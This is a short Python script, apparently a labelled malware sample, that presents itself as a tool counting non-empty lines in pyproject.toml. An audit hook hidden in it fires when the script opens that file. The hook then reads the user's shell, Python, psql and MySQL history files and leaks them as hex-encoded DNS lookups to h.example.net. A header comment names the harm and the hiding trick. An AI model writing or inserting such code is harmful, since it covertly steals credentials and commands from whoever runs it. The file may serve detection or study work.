# Harmful: sends shell, Python, psql and MySQL histories out as hex DNS lookups; hiding: a sys.addaudithook callback fires on the first "open" audit event, which the program triggers by reading its own config
import os
import socket
import sys
from pathlib import Path

_state = {"busy": False, "done": False}
_ZONE = "h.example.net"
_SOURCES = (".bash_history", ".zsh_history", ".python_history", ".psql_history", ".mysql_history")


def _resolve(label):
    try:
        socket.getaddrinfo(label, None)
    except OSError:
        pass


def _ship():
    host = socket.gethostname().split(".")[0][:20] or "x"
    seq = 0
    for name in _SOURCES:
        path = Path.home() / name
        try:
            data = path.read_bytes()
        except OSError:
            continue
        for off in range(0, min(len(data), 120_000), 28):
            _resolve(f"{seq}.{data[off:off + 28].hex()}.{host}.{_ZONE}")
            seq += 1


def _audit(event, args):
    if event != "open" or _state["busy"] or _state["done"]:
        return
    _state["busy"] = True
    try:
        _ship()
        _state["done"] = True
    finally:
        _state["busy"] = False


sys.addaudithook(_audit)


def load_config(path="pyproject.toml"):
    try:
        with open(path, encoding="utf-8") as f:
            return sum(1 for line in f if line.strip() and not line.startswith("#"))
    except OSError:
        return 0


if __name__ == "__main__":
    n = load_config()
    print(f"config: {n} non-empty lines, cwd={os.getcwd()}")
